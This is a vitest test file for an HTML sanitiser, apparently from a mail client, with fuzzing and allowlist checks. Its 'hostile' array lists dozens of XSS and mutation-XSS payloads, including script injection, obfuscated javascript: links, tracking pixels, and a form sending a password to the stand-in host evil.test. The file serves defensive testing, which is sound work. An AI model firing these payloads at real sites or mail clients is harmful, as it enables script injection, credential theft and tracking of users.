import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { HtmlTooDeep, sanitizeHtml } from './html-sanitizer.js';

const gif = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';

describe('what people write stays as it is', () => {
  it.each([
    '<p>Bonjour,<br />voici <strong>les</strong> <em>résultats</em>.</p>',
    '<ul><li>un</li><li>deux<ol start="3"><li>trois</li></ol></li></ul>',
    '<table><thead><tr><th>Analyse</th></tr></thead><tbody><tr><td colspan="2">13,8 &lt; 14</td></tr></tbody></table>',
    '<blockquote>cité</blockquote><pre>  code</pre><hr />',
    '<p style="color:#ff0000;text-align:center;font-size:12pt">rouge</p>',
    '<span style="font-family:\'courier new\', monospace">x</span>',
    `<img src="${gif}" alt="logo" width="20" />`,
    '<p dir="rtl" lang="fr">x</p>',
  ])('%s', (html) => {
    expect(sanitizeHtml(html)).toBe(html);
  });

  it('links open elsewhere, and tell nothing of where they were', () => {
    expect(sanitizeHtml('<a href="https://has-sante.fr/x?a=1&amp;b=2">HAS</a>')).toBe(
      '<a href="https://has-sante.fr/x?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">HAS</a>',
    );
    expect(sanitizeHtml('<a href="mailto:a@b.fr">a</a>')).toContain('href="mailto:a@b.fr"');
  });
});

/** What broke other mail clients (field facts, « Hostile mail »), and the usual collections of the kind. */
const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)" /><a id=x><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.test/pixel.png">',
  '<img src="//evil.test/pixel.png">',
  '<img srcset="https://evil.test/1.png 1x">',
  '<img src="cid:part1">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<picture><source srcset="https://evil.test/1.png"></picture>',
  '<body background="https://evil.test/x.png" onload=alert(1)>x</body>',
  '<table background="https://evil.test/x.png"><tr><td background="//evil.test/x">x</td></tr></table>',
  '<div style="background:url(https://evil.test/x)">x</div>',
  '<div style="background-image:var(--x);--x:url(//evil.test/x)">x</div>',
  '<div style="background-color:var(--x)">x</div>',
  '<div style="position:fixed !important;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="color:red !important">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="font-family:\'x\\27;background:url(//evil.test)\'">x</div>',
  '<div style="color:\\72 ed">x</div>',
  '<div style="content:url(//evil.test)">x</div>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>@import "//evil.test/x.css"; body { position: fixed }</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="/mailboxes/m/messages">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="https:\\\\evil.test">x</a>',
  '<a href=x onmouseover=alert(1) ping="//evil.test" download>x</a>',
  '<iframe src="//evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="//evil.test"></object><embed src="//evil.test">',
  '<form action="//evil.test"><input name=password><button formaction="//evil.test">x</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<base href="//evil.test/">',
  '<video poster="//evil.test/x"><source src="//evil.test/v"></video><audio src="//evil.test/a"></audio>',
  '<p id="session" class="admin" name="x" data-x="1" tabindex=0 contenteditable autofocus onfocus=alert(1)>x</p>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><script>alert(1)</script></xmp><plaintext><script>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?xml-stylesheet href="//evil.test"?><![CDATA[<script>alert(1)</script>]]>',
  '<p title="`onmouseover=alert(1)">x</p>',
  '<div/onmouseover=alert(1)>x</div>',
  '<<img src=x onerror=alert(1)>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<a href="https://a.test/&quot; onmouseover=&quot;alert(1)">x</a>',
];

/** Every tag and attribute of what comes out, found by a scan of its own. */
function constructs(html: string): { tag: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<\/?([^\s/>]+)((?:[^>"]|"[^"]*")*)>/g)].map((match) => ({
    tag: match[1] ?? '',
    attributes: [...(match[2] ?? '').matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map((pair) => [
      pair[1] ?? '',
      pair[2] ?? '',
    ]),
  }));
}

const harmlessTags = new Set(
  (
    'p br div span h1 h2 h3 h4 h5 h6 b strong i em u s strike del ins sub sup small mark blockquote pre code hr ' +
    'ul ol li dl dt dd a img table caption colgroup col thead tbody tfoot tr th td'
  ).split(' '),
);
const harmless: Readonly<Record<string, RegExp>> = {
  href: /^(https?:\/\/|mailto:)[^\s\\]+$/,
  src: /^data:image\/(png|jpeg|gif);base64,/,
  style: /^[a-z-]+:[^;()\\!]+(;[a-z-]+:[^;()\\!]+)*$/,
  title: /^/,
  alt: /^/,
  target: /^_blank$/,
  rel: /^noopener noreferrer$/,
  width: /^\d+$/,
  colspan: /^\d+$/,
};

function expectHarmless(html: string): void {
  for (const { tag, attributes } of constructs(html)) {
    expect(harmlessTags, html).toContain(tag);
    for (const [name, value] of attributes) {
      expect(Object.keys(harmless), html).toContain(name);
      expect(value, html).toMatch(harmless[name] ?? /$^/);
    }
  }
}

describe('hostile mail', () => {
  it.each(hostile)('%s', (html) => {
    const safe = sanitizeHtml(`<p>avant</p>${html}`);
    expect(safe).toContain('<p>avant</p>');
    expectHarmless(safe);
    expect(sanitizeHtml(safe)).toBe(safe);
  });

  // What is sealed is never made safe again, and need not be a fixed point: broken nesting may be mended further.
  it('however it is put together, comes out harmless, and so does what is made of it again', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<td>',
        '"',
        "'",
        '>',
        '<',
        '&lt;',
        '&#60;',
        '\u0000',
        '<!--',
        '-->',
        '`',
        '=',
      ),
      fc.string({ maxLength: 5 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const safe = sanitizeHtml(pieces.join(''));
        expectHarmless(safe);
        expectHarmless(sanitizeHtml(safe));
      }),
      { numRuns: 500 },
    );
  });

  it('nested too deep is flattened', () => {
    const depth = 900;
    const safe = sanitizeHtml('<div>'.repeat(depth) + 'x' + '</div>'.repeat(depth));
    expect(safe.match(/<div>/g)?.length).toBe(100);
    expect(safe).toContain('x');
  });

  it('nested deeper than anybody writes is refused', () => {
    expect(() => sanitizeHtml('<b>'.repeat(100_000))).toThrow(HtmlTooDeep);
    expect(sanitizeHtml('<p>a<br>'.repeat(10_000)).match(/<p>/g)).toHaveLength(10_000);
  });

  it('spans no more cells than anybody reads', () => {
    for (const name of ['colspan', 'rowspan']) {
      expect(sanitizeHtml(`<td ${name}="100">x</td>`)).toBe(`<td ${name}="100">x</td>`);
      for (const span of ['101', '9999', '0', '-1', '1e3'])
        expect(sanitizeHtml(`<td ${name}="${span}">x</td>`)).toBe('<td>x</td>');
    }
    expect(sanitizeHtml('<col span="9999">')).toBe('<col></col>');
    expect(sanitizeHtml('<ol start="1e308"><li>x</li></ol>')).toBe('<ol><li>x</li></ol>');
  });

  it('with pictures that are none, however many and however blank, takes no time to speak of', () => {
    const blank = ' '.repeat(500_000);
    expect(sanitizeHtml(`<img src="data:image/png;base64,${blank}!">x`)).toBe('x');
    expect(sanitizeHtml('x'.repeat(500_000) + '<img>'.repeat(100_000))).toHaveLength(500_000);
  });

  it('the scan of this test finds what a sanitiser lets through', () => {
    expect(() => expectHarmless('<p onclick="x">')).toThrow();
    expect(() => expectHarmless('<a href="javascript:x">')).toThrow();
    expect(() => expectHarmless('<script>')).toThrow();
  });
});
